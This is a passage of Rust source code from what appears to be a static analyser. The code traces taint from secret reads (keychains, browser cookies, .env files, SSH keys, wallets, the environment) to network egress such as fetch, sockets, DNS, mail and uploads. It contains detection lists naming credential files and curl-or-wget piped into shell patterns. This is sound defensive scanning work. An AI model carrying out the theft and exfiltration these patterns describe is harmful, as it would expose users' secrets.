                v.name = Some("path".into());
                return v;
            }
            "pathlib.path" | "path" | "pathlib.purepath" => {
                let mut v = if args.pos.is_empty() {
                    Val::text(".")
                } else {
                    join_vals(&args.pos, "/")
                };
                v.name = Some("path".into());
                return v;
            }
            "open" | "io.open" | "codecs.open" | "builtins.open" | "fs.opensync" => {
                let mode = args
                    .get(1, "mode")
                    .map(|v| v.text.clone())
                    .unwrap_or_else(|| "r".into());
                return self.open_handle(&first, &mode, span);
            }
            "getpass.getpass" | "getpass" => return self.prompted(span),
            "input" | "raw_input" | "readline.question" | "rl.question" | "prompt" => {
                let prompt = first.text.to_ascii_lowercase();
                if prompt.contains("password")
                    || prompt.contains("passphrase")
                    || prompt.contains("seed phrase")
                    || prompt.contains("private key")
                {
                    return self.prompted(span);
                }
                return Val::unknown("<input>");
            }
            "keyring.get_password" | "keytar.getpassword" | "win32crypt.cryptunprotectdata" => {
                let origin = self.a.emit("secret-read/keychain", span, name.to_string(), None);
                return Val::unknown("<secret>").tainted(Taint::of(Taint::SECRET, origin));
            }
            "pyperclip.paste" | "clipboardy.read" | "clipboardy.readsync" | "navigator.clipboard.readtext" => {
                let origin = self.a.emit("clipboard-read", span, name.to_string(), None);
                return Val::unknown("<clipboard>").tainted(Taint::of(Taint::SECRET_ENV, origin));
            }
            "pyperclip.copy" | "clipboardy.write" | "clipboardy.writesync" | "navigator.clipboard.writetext" => {
                let e = self.a.emit("egress/clipboard", span, name.to_string(), None);
                flow(self.a, &first, e, "", false, span);
                return Val::unknown("");
            }
            "glob.glob" | "glob.iglob" | "glob" | "globby" | "fast-glob" | "fg" | "glob.sync" | "globsync" => {
                let mut found = self.harvest(&first, span);
                // What it finds is named by its pattern, for the paths it is used on.
                found.text = first.text.clone();
                found.list = first.list.clone();
                return found;
            }
            "urllib.request.urlretrieve" | "urlretrieve" | "wget.download" => {
                let origin = self.a.emit("fetch", span, first.text.clone(), None);
                if let Some(path) = args.pos.get(1).or(args.named("filename")) {
                    self.fetched_files
                        .push((path.text.clone(), Taint::of(Taint::FETCHED, origin)));
                }
                return Val::unknown("<download>").tainted(Taint::of(Taint::FETCHED, origin));
            }
            "os.walk" | "os.listdir" | "os.scandir" | "fs.readdirsync" => {
                if let Some(kind) = secret_path_kind(&first.text) {
                    let origin = self
                        .a
                        .emit(&format!("secret-read/{kind}"), span, first.text.clone(), None);
                    return Val::unknown("<files>").tainted(Taint::of(Taint::SECRET, origin));
                }
                return Val::unknown("<files>");
            }
            "socket.gethostbyname"
            | "socket.gethostbyname_ex"
            | "socket.getaddrinfo"
            | "dns.resolver.resolve"
            | "dns.resolver.query"
            | "dns.resolve"
            | "dns.resolve4"
            | "dns.resolvetxt"
            | "dns.lookup"
            | "dns.promises.resolve"
            | "dns.promises.lookup" => {
                if !first.exact || first.taint.has(Taint::SECRET | Taint::SECRET_ENV | Taint::COMPUTED) {
                    let e = self.a.emit("egress/dns", span, first.text.clone(), None);
                    flow(self.a, &first, e, "", false, span);
                }
                return Val::unknown("<address>");
            }
            "socket.socket"
            | "socket.create_connection"
            | "net.socket"
            | "net.connect"
            | "net.createconnection"
            | "tls.connect" => {
                if name.contains("connect") {
                    self.socket = Some(span);
                    self.a.emit("egress/socket", span, first.text.clone(), None);
                }
                return Val::named("socket-object");
            }
            "webbrowser.open" | "window.open" | "open-url" => {
                let e = egress(self.a, &first, false, span);
                flow(self.a, &first, e, "", false, span);
                return Val::unknown("");
            }
            "navigator.sendbeacon" => {
                let e = egress(self.a, &first, true, span);
                if let Some(data) = args.pos.get(1) {
                    flow(self.a, data, e, "", false, span);
                }
                return Val::unknown("");
            }
            _ => {}
        }
        if let Some(method) = http_method(name) {
            return self.http(name, method, args, span);
        }
        if name == "fetch" || name.ends_with(".fetch") {
            let options = args.pos.get(1).cloned().unwrap_or_default();
            let method = field(&options, "method")
                .map(|m| m.text.to_ascii_uppercase())
                .unwrap_or_default();
            let body = field(&options, "body").cloned();
            let sends = body.is_some() || matches!(method.as_str(), "POST" | "PUT" | "PATCH");
            let e = egress(self.a, &first, sends, span);
            let host = split_url(&first.text).map(|(h, _)| h).unwrap_or_default();
            if let Some(body) = &body {
                flow(self.a, body, e, &host, false, span);
            }
            if let Some(headers) = field(&options, "headers") {
                flow(self.a, headers, e, &host, true, span);
            }
            flow(self.a, &first, e, &host, false, span);
            let origin = self.a.emit("fetch", span, first.text.clone(), None);
            let mut v = Val::named("response").tainted(Taint::of(Taint::FETCHED, origin));
            v.text = format!("<{}>", first.text);
            return v;
        }
        if matches!(name, "smtplib.smtp" | "smtplib.smtp_ssl" | "nodemailer.createtransport") {
            let mut v = Val::named("mailer");
            v.text = first.text;
            return v;
        }
        if matches!(
            name,
            "ftplib.ftp" | "ftplib.ftp_tls" | "paramiko.sshclient" | "paramiko.transport"
        ) {
            return Val::named("uploader");
        }
        // A client bound to a server that takes messages: IMAP (a draft appended is a
        // message stored on someone's server), MQTT (a message published to a broker).
        if matches!(
            name,
            "imaplib.imap4" | "imaplib.imap4_ssl" | "mqtt.client" | "paho.mqtt.client.client" | "client.client"
        ) {
            let mut v = Val::named("messenger");
            v.text = first.text;
            return v;
        }
        // A WebSocket to a host that is not this machine takes whatever is sent on it.
        if matches!(
            name,
            "websocket.create_connection" | "websockets.connect" | "websockets.client.connect" | "websocket" | "ws"
        ) && first.exact
            && first.text.contains("://")
            && !super::tables::is_local_host(
                first
                    .text
                    .split("://")
                    .nth(1)
                    .unwrap_or("")
                    .split(['/', ':'])
                    .next()
                    .unwrap_or(""),
            )
        {
            let mut v = Val::named("messenger");
            v.text = first.text;
            return v;
        }
        if name == "sqlite3.connect" || name == "better-sqlite3" || name == "database" {
            return read_path(self.a, &first, span);
        }
        if matches!(
            name,
            "browser_cookie3.chrome" | "browser_cookie3.load" | "browser_cookie3.firefox" | "browser_cookie3.edge"
        ) {
            let origin = self.a.emit("secret-read/browser-data", span, name.to_string(), None);
            return Val::unknown("<cookies>").tainted(Taint::of(Taint::SECRET, origin));
        }
        if matches!(
            name,
            "shutil.copy" | "shutil.copyfile" | "shutil.copy2" | "fs.copyfilesync" | "fs.copyfile" | "copy-item"
        ) {
            let source = read_path(self.a, &first, span);
            if let Some(dest) = args.pos.get(1) {
                write_path(self.a, dest, &source, false, span);
            }
            return Val::unknown("");
        }
        if matches!(
            name,
            "fs.readfilesync"
                | "fs.readfile"
                | "fs.promises.readfile"
                | "fs.createreadstream"
                | "readfile"
                | "readfilesync"
        ) {
            return read_path(self.a, &first, span);
        }
        if matches!(
            name,
            "fs.writefilesync"
                | "fs.writefile"
                | "fs.appendfilesync"
                | "fs.appendfile"
                | "fs.promises.writefile"
                | "fs.promises.appendfile"
                | "writefilesync"
                | "appendfilesync"
                | "writefile"
                | "appendfile"
                | "fs.createwritestream"
        ) {
            let content = args.pos.get(1).cloned().unwrap_or_default();
            write_path(self.a, &first, &content, name.contains("append"), span);
            return Val::unknown("");
        }
        // The environment handed to a child process (`env=os.environ`) stays there; passed
        // to anything else, it is read whole.
        let whole_env_arg = args
            .pos
            .iter()
            .any(|v| matches!(v.name.as_deref(), Some(n) if is_whole_environment(n)))
            || args
                .named
                .iter()
                .any(|(k, v)| k != "env" && matches!(v.name.as_deref(), Some(n) if is_whole_environment(n)));
        if whole_env_arg && !name.ends_with(".get") {
            return self.whole_environment(span);
        }
        // An unknown call: its result carries what its arguments carried.
        let mut v = Val::named(name.to_string());
        v.taint = args.taint();
        v.taint.bits &= Taint::CARRIED;
        v.text = format!("<{name}(…)>");
        v
    }

    /// A call handed the path of a secret (`cfg.read([os.path.join(aws, "credentials")])`,
    /// `zipfile.write(key)`): the secret is read, whatever the call. Checks of
    /// existence and permissions only look.
    fn secret_arguments(&mut self, name: &str, args: &CallArgs, span: (usize, usize)) -> Option<Taint> {
        let looks_only = [
            "exists",
            "isfile",
            "isdir",
            "is_file",
            "is_dir",
            "stat",
            "access",
            "chmod",
            "existssync",
            "test-path",
        ]
        .iter()
        .any(|w| name.ends_with(w));
        if looks_only {
            return None;
        }
        let mut candidates: Vec<&Val> = Vec::new();
        for v in args.all() {
            candidates.push(v);
            if let Some(list) = &v.list {
                candidates.extend(list.iter().take(64));
            }
        }
        let found = candidates
            .iter()
            .find_map(|v| secret_path_kind(&v.text).map(|kind| (kind, v.text.clone())));
        let Some(found) = found else {
            // The user's own documents (`~/Documents`, `~/Desktop`): not a credential,
            // but theirs; sent to a collector, that is the finding.
            let lists_or_reads = [
                "walk",
                "listdir",
                "scandir",
                "iterdir",
                "glob",
                "rglob",
                "readdir",
                "readdirsync",
                "get-childitem",
                "copytree",
                "make_archive",
            ]
            .iter()
            .any(|w| name.ends_with(w));
            if lists_or_reads && let Some(folder) = candidates.iter().find(|v| is_personal_folder(&v.text)) {
                self.a.emit("personal-read/documents", span, folder.text.clone(), None);
            }
            return None;
        };
        let origin = self.a.emit(&format!("secret-read/{}", found.0), span, found.1, None);
        Some(Taint::of(Taint::SECRET, origin))
    }

    /// What a string literal says by itself: the path of a credential store (browser
    /// data, a wallet, a keychain, a private key) that code names only to read, a
    /// command line that pipes into an interpreter (read as shell), and text hidden
    /// behind escapes (read by the pattern rules).
    fn literal(&mut self, v: &Val, span: (usize, usize)) {
        if !v.exact || v.text.len() < 6 || v.text.len() > 16 * 1024 {
            return;
        }
        let path_like = v.text.contains('/') || v.text.contains('\\') || v.text.starts_with('~');
        if path_like
            && let Some(kind) = secret_path_kind(&v.text)
            && matches!(
                kind,
                "browser-data" | "wallet" | "keychain" | "ssh-key" | "agent-credentials"
            )
        {
            self.a.emit(&format!("secret-read/{kind}"), span, v.text.clone(), None);
        }
        let lower = v.text.to_ascii_lowercase();
        let pipes_to_interpreter = [
            "| sh",
            "|sh",
            "| bash",
            "|bash",
            "| iex",
            "|iex",
            "| python",
            "| sudo bash",
            "| sudo sh",
        ]
        .iter()
        .any(|p| lower.contains(p))
            && (lower.contains("curl") || lower.contains("wget") || lower.contains("iwr") || lower.contains("base64"));
        if pipes_to_interpreter {
            self.a.nested(&v.text.clone(), Lang::Shell, span.0);
        }
        let raw = self.a.text.get(span.0..span.1).unwrap_or("");
        if (raw.contains("\\x") || raw.contains("\\u")) && v.text.len() + 8 < raw.len() {
            self.a.derive(&v.text.clone(), "escaped string", span.0);
        }
    }

    /// A password the user types at the skill's prompt: what matters is where it goes.
    fn prompted(&mut self, span: (usize, usize)) -> Val {
        let origin = self.a.emit("secret-prompt", span, "PASSWORD".into(), None);
        let mut v = Val::unknown("<password>").tainted(Taint::of(Taint::SECRET_ENV, origin));
        v.name = Some("PASSWORD".into());
        v
    }

    fn whole_environment(&mut self, span: (usize, usize)) -> Val {
        let origin = self
            .a
            .emit("secret-read/env-dump", span, "every environment variable".into(), None);
        Val::unknown("<env>").tainted(Taint::of(Taint::SECRET, origin))
    }

    fn harvest(&mut self, pattern: &Val, span: (usize, usize)) -> Val {
        let lower = pattern.text.to_ascii_lowercase();
        let kind = secret_path_kind(&lower).or_else(|| {
            [
                ".env",
                "id_rsa",
                "*.pem",
                "wallet.dat",
                "credentials",
                ".npmrc",
                ".kdbx",
                "*.key",
            ]
            .iter()
            .any(|p| lower.contains(p))
            .then_some("env-file")
        });
        match kind {
            Some(kind) => {
                let origin = self.a.emit(
                    &format!("secret-read/{kind}"),
                    span,
                    format!("searches for {}", pattern.text),
                    None,
                );
                Val::unknown("<files>").tainted(Taint::of(Taint::SECRET, origin))
            }
            None => Val::unknown("<files>"),
        }
    }

    fn open_handle(&mut self, path: &Val, mode: &str, span: (usize, usize)) -> Val {
        if mode.contains('w') || mode.contains('a') || mode.contains('x') {
            let mut v = Val::named(format!("file-write:{}", if mode.contains('a') { "a" } else { "w" }));
            v.text = path.text.clone();
            v.fields = Some(vec![("path".into(), path.clone())]);
            return v;
        }
        let content = read_path(self.a, path, span);
        let mut v = content;
        v.name = Some("file-read".into());
        v
    }

    fn decode(&mut self, input: &Val, layer: &'static str, span: (usize, usize)) -> Val {
        let taint = input.taint.union(Taint::of(Taint::DECODED, None));
        if !input.exact || !self.a.budget(input.text.len(), span.0) {
            return Val::unknown("<decoded>").tainted(taint);
        }
        let bytes = match layer {
            "base64" => base64_bytes(input.text.trim()),
            "hex" => hex_bytes(input.text.trim()),
            "zlib" => inflate(&chars_of(input)),
            _ => None,
        };
        match bytes {
            Some(bytes) => self.decoded(bytes, taint, layer, span),
            None => Val::unknown("<decoded>").tainted(taint),
        }
    }

    fn decoded(&mut self, bytes: Vec<u8>, taint: Taint, layer: &'static str, span: (usize, usize)) -> Val {
        let v = from_bytes(bytes, taint);
        if !v.bytes {
            self.a.derive(&v.text.clone(), layer, span.0);
        }
        v
    }

    fn chars(&mut self, items: &[Val]) -> Val {
        let mut text = String::new();
        let mut exact = true;
        let mut taint = Taint::of(Taint::COMPUTED, None);
        for item in items {
            taint = taint.union(item.taint);
            match num(item) {
                Some(n) => text.push(char::from_u32(n as u32).unwrap_or('\u{fffd}')),
                None => {
                    exact = false;
                    text.push('…');
                }
            }
        }
        let mut v = Val::text(text);
        v.exact = exact;
        v.taint = taint;
        v
    }

    /// A method on a value: string and list operations fold; a module's functions are
    /// calls by their full name; a file handle's `write` writes.
    fn method(
        &mut self,
        receiver: Val,
        name: &str,
        args: CallArgs,
        span: (usize, usize),
        t: &[Token],
        at: usize,
    ) -> Val {
        let lower = name.to_ascii_lowercase();
        let first = args.pos.first().cloned().unwrap_or_default();
        // A walk that picks files by a credential's name (`name.startsWith(".env")`):
        // what it keeps are those files.
        // `!f.startsWith('.env')` and `not f.startswith('.env')` leave them out.
        let negated = at > 0 && (punct(t.get(at - 1), "!") || ident(t.get(at - 1)) == Some("not"));
        if matches!(lower.as_str(), "startswith" | "endswith")
            && !negated
            && first.exact
            && matches!(
                first.text.as_str(),
                ".env" | "id_rsa" | "id_ed25519" | ".kdbx" | "wallet.dat" | ".npmrc" | ".pypirc" | ".git-credentials"
            )
        {
            let kind = secret_path_kind(&format!("~/{}", first.text)).unwrap_or("env-file");
            self.a.emit(
                &format!("secret-read/{kind}"),
                span,
                format!("picks files named {}", first.text),
                None,
            );
        }
        // A promise's callback gets what the promise resolves to (`fetch(u).then(r =>
        // r.text()).then(eval)`): the callback called with the receiver.
        if self.lang == Lang::JavaScript && lower == "then" && first.name.is_some() {
            let resolved = CallArgs {
                pos: vec![receiver],
                named: Vec::new(),
            };
            return self.call(first, resolved, span, t, at);
        }
        // A dict literal's `items()`, `keys()`, `values()`: lists of what it holds.
        if matches!(lower.as_str(), "items" | "keys" | "values" | "entries")
            && args.pos.is_empty()
            && receiver.text == "{…}"
            && let Some(fields) = &receiver.fields
        {
            let key = |k: &str| match k.parse::<f64>() {
                Ok(n) => number(n),
                Err(_) => Val::text(k),
            };
            let list: Vec<Val> = fields
                .iter()
                .map(|(k, v)| match lower.as_str() {
                    "keys" => key(k),
                    "values" => v.clone(),
                    _ => {
                        let mut pair = Val::unknown("(…)");
                        pair.list = Some(vec![key(k), v.clone()]);
                        pair
                    }
                })
                .collect();
            let mut v = Val::unknown("[…]");
            v.taint = receiver.taint;
            v.list = Some(list);
            return v;
        }
        // `s.translate(str.maketrans(a, b))`: each character of `a` becomes `b`'s.
        if lower == "translate"
            && receiver.exact
            && let (Some(from), Some(into)) = (field(&first, "translate"), field(&first, "into"))
        {
            let map: Vec<(char, char)> = from.text.chars().zip(into.text.chars()).collect();
            let text: String = receiver
                .text
                .chars()
                .map(|c| map.iter().find(|(f, _)| *f == c).map_or(c, |(_, t)| *t))
                .collect();
            let mut v = Val::text(text);
            v.taint = receiver.taint.union(Taint::of(Taint::COMPUTED, None));
            self.a.derive(&v.text.clone(), "translated", span.0);
            return v;
        }
        // `'ab'.repeat(n)` as `'ab' * n`, bounded alike.
        if lower == "repeat" && first.num.is_some() && receiver.num.is_none() && receiver.name.is_none() {
            return self.binary("*", receiver, first, span);
        }
        if matches!(receiver.name.as_deref(), Some(n) if is_whole_environment(n)) {
            match lower.as_str() {
                "items" | "keys" | "values" | "entries" | "__repr__" | "__str__" | "tostring" => {
                    return self.whole_environment(span);
                }
                "get" | "__getitem__" | "getenv" => {
                    return self.env_var_or_default(&first.text, args.get(1, "default"), span);
                }
                "copy" => return receiver,
                _ => {}
            }
        }
        if let Some(module) = receiver.name.clone()
            && !module.starts_with("value.")
        {
            // File handles.
            if module.starts_with("file-write:") && matches!(lower.as_str(), "write" | "writelines") {
                let path = field(&receiver, "path").cloned().unwrap_or_default();
                if first.taint.has(Taint::FETCHED) {
                    self.fetched_files.push((path.text.clone(), first.taint));
                }
                write_path(self.a, &path, &first, module.ends_with(":a"), span);
                return Val::unknown("");
            }
            if module == "file-read" && matches!(lower.as_str(), "read" | "readlines" | "readline") {
                let mut v = receiver.clone();
                v.name = None;
                return v;
            }
            // A path value's method; Node's `path` module (`path.join`) is a module.
            if module == "path" && !(self.lang == Lang::JavaScript && receiver.text == "path") {
                return self.path_method(receiver, &lower, &args, span);
            }
            if module == "socket-object" {
                match lower.as_str() {
                    "connect" | "connect_ex" => {
                        self.socket = Some(span);
                        self.a.emit("egress/socket", span, first.text.clone(), None);
                        return Val::unknown("");
                    }
                    "send" | "sendall" | "sendto" | "write" => {
                        let e = self.a.emit("egress/socket", span, "socket send".into(), None);
                        flow(self.a, &first, e, "", false, span);
                        return Val::unknown("");
                    }
                    "fileno" | "pipe" => {
                        // Streams handed to a process: a network shell with a shell.
                        return Val::named("socket-stream");
                    }
                    "accept" => {
                        // A connection someone made: what it carries, wherever it is
                        // read (a handler thread), is what the network sent.
                        let origin = self.a.emit("fetch", span, "accept: a network connection".into(), None);
                        return Val::named("socket-object").tainted(Taint::of(Taint::FETCHED, origin));
                    }
                    "makefile" => {
                        // A file over the socket: handed to a process it is a network
                        // shell, and what is read from it is what the network sent.
                        let origin = self.a.emit("fetch", span, "makefile: network input".into(), None);
                        return Val::named("socket-stream").tainted(Taint::of(Taint::FETCHED, origin));
                    }
                    _ => return Val::named("socket-object"),
                }
            }
            // A client whose send method sends its arguments: mail, an IMAP draft, an
            // MQTT message.
            let sent = match (module.as_str(), lower.as_str()) {
                ("mailer", "sendmail" | "send_message" | "sendmail_async") => {
                    Some(("egress/email", receiver.text.clone()))
                }
                ("messenger", "append" | "publish" | "send" | "send_text" | "send_json" | "send_binary") => {
                    Some(("egress/message", format!("{lower} {}", receiver.text)))
                }
                _ => None,
            };
            if let Some((tag, detail)) = sent {
                let e = self.a.emit(tag, span, detail, None);
                for v in args.all() {
                    flow(self.a, v, e, "", false, span);
                }
                return Val::unknown("");
            }
            if module == "uploader" && matches!(lower.as_str(), "storbinary" | "storlines" | "put" | "upload") {
                let e = self.a.emit("egress/upload", span, lower.clone(), None);
                for v in args.all() {
                    let content = if v.name.as_deref() == Some("file-read") {
                        v.clone()
                    } else {
                        read_path(self.a, v, span)
                    };
                    flow(self.a, &content, e, "", false, span);
                }
                return Val::unknown("");
            }
            if module.starts_with("type:") {
                let type_name = module.trim_start_matches("type:");
                return self.type_method(type_name, &lower, &args, span, t);
            }
            if module == "response" || module.ends_with("response") {
                let mut v = receiver.clone();
                v.name = Some("response".into());
                return v;
            }
            let full = format!("{module}.{name}");
            let mut callee = Val::named(full);
            callee.taint = receiver.taint;
            let mut v = self.call(callee, args, span, t, at);
            // A method of a value that carries data (`buf.toString()`) carries it on.
            let mut carried = receiver.taint;
            carried.bits &= Taint::CARRIED | Taint::DECODED | Taint::COMPUTED;
            v.taint = v.taint.union(carried);
            return v;
        }
        // Folding on values.
        match lower.as_str() {
            "join" => {
                let items = first.list.clone().unwrap_or_else(|| {
                    if first.exact {
                        first.text.chars().map(|c| Val::text(c.to_string())).collect()
                    } else {
                        vec![first.clone()]
                    }
                });
                if receiver.list.is_some() && args.pos.len() <= 1 {
                    // JavaScript `arr.join(sep)`.
                    let sep = if args.pos.is_empty() {
                        ",".to_string()
                    } else {
                        first.text.clone()
                    };
                    let list = receiver.list.clone().unwrap_or_default();
                    let mut v = join_vals(&list, &sep);
                    v.taint = v.taint.union(receiver.taint);
                    if assembled(&list) {
                        v.taint = v.taint.union(Taint::of(Taint::COMPUTED, None));
                        self.a.derive(&v.text.clone(), "joined", span.0);
                    }
                    return self.bounded(v, span);
                }
                let mut v = join_vals(&items, &receiver.text);
                v.taint = v.taint.union(first.taint);
                if assembled(&items) {
                    v.taint = v.taint.union(Taint::of(Taint::COMPUTED, None));
                    self.a.derive(&v.text.clone(), "joined", span.0);
                }
                self.bounded(v, span)
            }
            "split" => {
                let sep = first.text.clone();
                let parts: Vec<Val> = if sep.is_empty() && args.pos.first().is_some_and(|a| a.exact) {
                    receiver.text.chars().map(|c| Val::text(c.to_string())).collect()
                } else if args.pos.is_empty() {
                    receiver.text.split_whitespace().map(Val::text).collect()
                } else {
                    receiver.text.split(sep.as_str()).map(Val::text).collect()
                };
                let mut v = Val::unknown("[…]");
                v.taint = receiver.taint;
                v.list = Some(parts.into_iter().take(MAX_LIST).collect());
                v
            }
            // `list.filter(fs.existsSync)`: some of the items, whichever they are; the
            // list stands for all of them.
            "filter" | "find" | "findlast" | "sort" | "slice" | "concat" | "flat"
                if receiver.list.is_some() && self.lang == Lang::JavaScript =>
            {
                let mut v = receiver.clone();
                if lower == "find" || lower == "findlast" {
                    let list = receiver.list.clone().unwrap_or_default();
                    v = list.first().cloned().unwrap_or_default();
                    v.list = Some(list);
                }
                v.taint = v.taint.union(receiver.taint);
                v
            }
            "reverse" => {
                let mut v = receiver.clone();
                if let Some(list) = &receiver.list {
                    v.list = Some(list.iter().rev().cloned().collect());
                }
                v.taint = v.taint.union(Taint::of(Taint::COMPUTED, None));
                v
            }
            "map" => {
                let list = receiver.list.clone().unwrap_or_default();
                let function = first;
                let mapped: Vec<Val> = list
                    .iter()
                    .take(MAX_LIST)
                    .map(|item| {
                        if function.name.as_deref() == Some("string.fromcharcode")
                            || function.name.as_deref() == Some("String.fromCharCode")
                        {
                            self.chars(std::slice::from_ref(item))
                        } else {
                            self.apply(&function, item.clone(), t).unwrap_or_default()
                        }
                    })
                    .collect();
                let chars = matches!(
                    function.name.as_deref(),
                    Some("string.fromcharcode" | "String.fromCharCode")
                );
                let mut v = Val::unknown("[…]");
                v.taint = mapped.iter().fold(receiver.taint, |t, m| t.union(m.taint));
                if chars {
                    v.taint = v.taint.union(Taint::of(Taint::COMPUTED, None));
                }
                v.list = Some(mapped);
                v
            }
            "replace" | "replaceall" => {
                let to = args.pos.get(1).cloned().unwrap_or_default();
                let text = if first.text.is_empty() {
                    receiver.text.clone()
                } else if lower == "replace" && self.lang == Lang::JavaScript {
                    receiver.text.replacen(&first.text, &to.text, 1)
                } else {
                    receiver.text.replace(&first.text, &to.text)
                };
                let revealing = self.a.reveals(&text);
                let mut v = Val::text(text);
                v.exact = receiver.exact && first.exact && to.exact;
                v.taint = receiver.taint.union(to.taint);
                if revealing {
                    v.taint = v.taint.union(Taint::of(Taint::COMPUTED, None));
                }
                v
            }
            "decode" | "tostring" | "encode" => {
                let encoding = first.text.to_ascii_lowercase();
                if lower == "tostring" && receiver.bytes && matches!(encoding.as_str(), "base64" | "hex") {
                    // Encoding bytes for transport: the data is the same.
                    let mut v = receiver.clone();
                    v.exact = false;
                    v.bytes = false;
                    return v;
                }
                let mut v = receiver.clone();
                if lower == "decode" || lower == "tostring" {
                    if let Ok(text) = String::from_utf8(chars_of(&receiver)) {
                        v.text = text;
                        v.bytes = false;
                    }
                    if matches!(encoding.as_str(), "rot13" | "rot_13") {
                        v.text = super::decode::rot13(&v.text);
                        v.taint = v.taint.union(Taint::of(Taint::COMPUTED, None));
                    }
                } else {
                    v.bytes = true;
                }
                v.name = None;
                v
            }
            "lower" | "upper" | "tolowercase" | "touppercase" | "strip" | "trim" | "lstrip" | "rstrip" | "tolower"
            | "toupper" => {
                let mut v = receiver.clone();
                v.text = match lower.as_str() {
                    "lower" | "tolowercase" | "tolower" => receiver.text.to_lowercase(),
                    "upper" | "touppercase" | "toupper" => receiver.text.to_uppercase(),
                    // Each side as asked, and only the characters asked for: an
                    // alphabet that starts with a space keeps it under `rstrip("\n")`.
                    side => {
                        let set: Option<Vec<char>> =
                            args.pos.first().filter(|a| a.exact).map(|a| a.text.chars().collect());
                        let strip = |c: char| set.as_ref().map_or(c.is_whitespace(), |set| set.contains(&c));
                        match side {
                            "lstrip" => receiver.text.trim_start_matches(strip).to_string(),
                            "rstrip" => receiver.text.trim_end_matches(strip).to_string(),
                            _ => receiver.text.trim_matches(strip).to_string(),
                        }
                    }
                };
                v.name = None;
                v
            }
            "format" if self.lang == Lang::Python => {
                let mut text = receiver.text.clone();
                let mut taint = receiver.taint;
                for (n, arg) in args.pos.iter().enumerate() {
                    text = text
                        .replacen("{}", &arg.text, 1)
                        .replace(&format!("{{{n}}}"), &arg.text);
                    taint = taint.union(arg.taint);
                }
                for (k, arg) in &args.named {
                    text = text.replace(&format!("{{{k}}}"), &arg.text);
                    taint = taint.union(arg.taint);
                }
                let mut v = Val::text(text);
                v.exact = receiver.exact && args.all().all(|a| a.exact);
                v.taint = taint;
                v
            }
            "concat" => {
                let mut v = receiver.clone();
                for arg in &args.pos {
                    v = concat(&v, arg);
                }
                v
            }
            "items" | "keys" | "values" | "copy" | "entries" if matches!(receiver.name.as_deref(), Some(n) if is_whole_environment(n)) => {
                self.whole_environment(span)
            }
            "write" | "end" | "send" => {
                // A request object's body (`req.write(data)`).
                if receiver
                    .fields
                    .as_ref()
                    .is_some_and(|f| f.iter().any(|(k, _)| k == "egress"))
                {
                    let e = field(&receiver, "egress").and_then(|v| v.num).map(|n| n as usize);
                    flow(self.a, &first, e, "", false, span);
                }
                Val::unknown("")
            }
            "read" | "readall" | "json" | "text" | "content" | "getvalue" | "readtoend" => {
                let mut v = receiver.clone();
                v.name = None;
                v
            }
            _ => {
                let mut v = Val::unknown(format!("….{name}()"));
                v.taint = receiver.taint.union(args.taint());
                v.taint.bits &= Taint::CARRIED | Taint::DECODED | Taint::COMPUTED;
                v
            }
        }
    }

    fn path_method(&mut self, receiver: Val, name: &str, args: &CallArgs, span: (usize, usize)) -> Val {
        let first = args.pos.first().cloned().unwrap_or_default();
        match name {
            "read_text" | "read_bytes" | "open" => {
                let mode = first.text.clone();
                if mode.contains('w') || mode.contains('a') {
                    return self.open_handle(&receiver, &mode, span);
                }
                read_path(self.a, &receiver, span)
            }
            "write_text" | "write_bytes" => {
                write_path(self.a, &receiver, &first, false, span);
                Val::unknown("")
            }
            "joinpath" | "__truediv__" => {
                let mut v = join_vals(
                    &[receiver]
                        .into_iter()
                        .chain(args.pos.iter().cloned())
                        .collect::<Vec<_>>(),
                    "/",
                );
                v.name = Some("path".into());
                v
            }
            "expanduser" | "resolve" | "absolute" => receiver,
            "glob" | "rglob" => self.harvest(&concat(&concat(&receiver, &Val::text("/")), &first), span),
            "home" => {
                let mut v = Val::text("~");
                v.name = Some("path".into());
                v
            }
            _ => Val::unknown("…"),
        }
    }

    fn type_method(&mut self, type_name: &str, name: &str, args: &CallArgs, span: (usize, usize), t: &[Token]) -> Val {
        let first = args.pos.first().cloned().unwrap_or_default();
        match (type_name, name) {
            (_, "frombase64string") => self.decode(&first, "base64", span),
            // DPAPI: what Windows encrypted for this user, decrypted.
            (ty, "unprotect") if ty.contains("protecteddata") => {
                let origin = self.a.emit(
                    "secret-read/system-credentials",
                    span,
                    format!("[{ty}]::Unprotect"),
                    None,
                );
                Val::unknown("<secret>").tainted(Taint::of(Taint::SECRET, origin))
            }
            (ty, "getstring") if ty.contains("encoding") => {
                let callee = Val::named(format!("{ty}.getstring"));
                let args2 = CallArgs {
                    pos: vec![first],
                    named: Vec::new(),
                };
                self.call(callee, args2, span, t, 0)
            }
            (ty, "create") if ty.contains("scriptblock") => {
                let mut v = first;
                v.name = Some("scriptblock".into());
                v
            }
            ("string", "join") => {
                let sep = first.text.clone();
                let list = args
                    .pos
                    .get(1)
                    .and_then(|l| l.list.clone())
                    .unwrap_or_else(|| args.pos.iter().skip(1).cloned().collect());
                let mut v = join_vals(&list, &sep);
                v.taint = v.taint.union(Taint::of(Taint::COMPUTED, None));
                v
            }
            (ty, "getenvironmentvariables") if ty.contains("environment") => self.whole_environment(span),
            (ty, "getenvironmentvariable") if ty.contains("environment") => self.env_var(&first.text, span),
            (ty, "downloadstring" | "downloaddata") if ty.contains("webclient") => {
                egress(self.a, &first, false, span);
                let origin = self.a.emit("fetch", span, first.text.clone(), None);
                Val::unknown(format!("<{}>", first.text)).tainted(Taint::of(Taint::FETCHED, origin))
            }
            (ty, "downloadfile") if ty.contains("webclient") => {
                let origin = self.a.emit("fetch", span, first.text.clone(), None);
                if let Some(path) = args.pos.get(1) {
                    self.env.insert(
                        format!("fetched:{}", path.text.to_ascii_lowercase()),
                        Val::unknown("").tainted(Taint::of(Taint::FETCHED, origin)),
                    );
                }
                Val::unknown("")
            }
            (ty, m) if ty.contains("webclient") && m.starts_with("upload") => {
                let e = egress(self.a, &first, true, span);
                for v in args.pos.iter().skip(1) {
                    let content = if m == "uploadfile" {
                        read_path(self.a, v, span)
                    } else {
                        v.clone()
                    };
                    flow(self.a, &content, e, "", false, span);
                }
                Val::unknown("")
            }
            (ty, "reverse") if ty.contains("array") => Val::unknown("…"),
            _ => Val::unknown("…").tainted(args.taint()),
        }
    }

    /// `requests.post(url, data=…)`, `axios.post(url, body)`, `httpx.get(url, params=…)`.
    fn http(&mut self, name: &str, method: &str, args: &CallArgs, span: (usize, usize)) -> Val {
        let url = args.get(0, "url").cloned().unwrap_or_default();
        let url = if url.fields.is_some() {
            // `axios({ url, method, data })`, `https.request({ hostname, path })`.
            field(&url, "url")
                .cloned()
                .or_else(|| {
                    field(&url, "hostname").or(field(&url, "host")).map(|h| {
                        Val::text(format!(
